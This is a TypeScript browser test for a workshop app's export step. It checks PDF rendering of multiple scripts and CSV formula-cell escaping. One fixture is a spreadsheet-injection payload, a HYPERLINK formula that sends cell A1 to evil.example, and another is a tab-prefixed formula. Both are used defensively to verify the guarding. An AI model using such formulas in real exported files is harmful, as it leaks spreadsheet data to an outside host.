import { execFileSync } from 'node:child_process';
import { mkdirSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Browser, BrowserContext, Download, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sampleJson } from '../support/export-workshops';
import {
  goToStep,
  importWorkshop,
  jsonFile,
  launchChromium,
  serveWeb,
  watchPage,
  type PageErrors,
  type StaticServer,
} from './support';

/*
 * Issue 15, items 10 and 11 in the browser: the Review & export step of the built web UI
 * makes a PDF whose Chinese, Arabic and Hebrew text is drawn with Noto subsets fetched as
 * separate assets (only those the text needs), shows the fields it cannot draw (Thai) in a
 * dialog, and guards formula cells in the CSV. Page images go to test-results/pdf-scripts.
 */

const ARTEFACTS = join(import.meta.dirname, '..', '..', 'test-results', 'pdf-scripts');
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

function workshop() {
  const data = sampleJson();
  data.id = '0c7d9a52-3f1e-4b8a-9d26-5e4f1a7b3c90';
  data.title = '数据 Ελληνικά Кириллица';
  data.objectives[0]!.title = '漢字テスト 😀 数据';
  data.objectives[1]!.title = 'مرحبا بالعالم';
  data.objectives[2]!.title = 'שלום עולם';
  data.objectives[0]!.keyResults[0]!.title = 'ทดสอบ Thai text';
  data.objectives[0]!.keyResults[1]!.title = FORMULA;
  data.objectives[0]!.keyResults[2]!.title = '\t=1+1';
  return data;
}

describe('Review & export: every script and guarded CSV in the browser', () => {
  let server: StaticServer;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let errors: PageErrors;
  let dir: string;
  const requested: string[] = [];

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'offsite-e2e-export-scripts-'));
    server = await serveWeb();
    browser = await launchChromium();
    context = await browser.newContext({
      viewport: { width: 1280, height: 800 },
      acceptDownloads: true,
    });
    page = await context.newPage();
    page.on('request', (r) => requested.push(new URL(r.url()).pathname));
    errors = watchPage(page);
  });

  afterAll(async () => {
    await context?.close();
    await browser?.close();
    await server?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  async function download(start: () => Promise<void>): Promise<string> {
    const event = page.waitForEvent('download');
    await start();
    const d: Download = await event;
    const file = join(dir, d.suggestedFilename());
    await d.saveAs(file);
    return file;
  }

  it('loads no fallback font for the first screen', async () => {
    await page.goto(server.url);
    await importWorkshop(page, jsonFile('scripts.json', workshop()));
    const title = page.getByRole('textbox', { name: 'Workshop title' });
    await expect.poll(() => title.inputValue()).toBe('数据 Ελληνικά Кириллица');
    await goToStep(page, 'Review & export');
    expect(requested.filter((p) => p.endsWith('.woff'))).toEqual([]);
  });

  it('exports the PDF with the Noto subsets it needs, and names the field it cannot draw', async () => {
    const file = await download(() => page.getByRole('button', { name: 'Export PDF…' }).click());
    const dialog = page.getByRole('alertdialog', { name: 'Some text cannot be shown in the PDF' });
    await dialog.waitFor();
    expect(await dialog.getByRole('list', { name: 'Problems' }).textContent()).toBe(
      'objectives[0].keyResults[0].title: contains Thai script, which the PDF cannot render',
    );
    await dialog.getByRole('button', { name: 'Close' }).click();
    await expect
      .poll(() => page.getByRole('status').filter({ hasText: /./ }).textContent())
      .toMatch(/^Downloaded .*\.pdf — 1 field with text it cannot show$/);

    const fonts = requested.filter((p) => p.endsWith('.woff'));
    expect(fonts.some((p) => p.includes('noto-sans-sc-'))).toBe(true);
    expect(fonts.some((p) => p.includes('noto-sans-arabic-arabic-'))).toBe(true);
    expect(fonts.some((p) => p.includes('noto-sans-hebrew-hebrew-'))).toBe(true);
    // Only the subsets this text needs: a handful, not the ~450 the build holds.
    expect(fonts.length).toBeLessThan(40);

    const text = execFileSync('pdftotext', ['-enc', 'UTF-8', file, '-'], { encoding: 'utf8' });
    for (const s of ['数据', '漢字テスト', 'Ελληνικά', 'Кириллица', 'مرحبا', 'שלום', 'עולם'])
      expect(text).toContain(s);
    mkdirSync(ARTEFACTS, { recursive: true });
    execFileSync('pdftoppm', [
      '-png',
      '-r',
      '60',
      '-f',
      '3',
      '-l',
      '3',
      file,
      join(ARTEFACTS, 'web'),
    ]);
    errors.assertClean();
  });

  it('exports the CSV with formula cells guarded', async () => {
    const file = await download(() => page.getByRole('button', { name: 'Export CSV…' }).click());
    const bytes = await readFile(file);
    const body = bytes[0] === 0xef ? bytes.subarray(3) : bytes;
    const rows = parse(body.toString('utf8'), { record_delimiter: '\r\n' }) as string[][];
    const titles = rows.map((r) => r[2]);
    expect(titles).toContain(`'${FORMULA}`);
    expect(titles).toContain(`'\t=1+1`);
    expect(titles).not.toContain(FORMULA);
    errors.assertClean();
  });
});
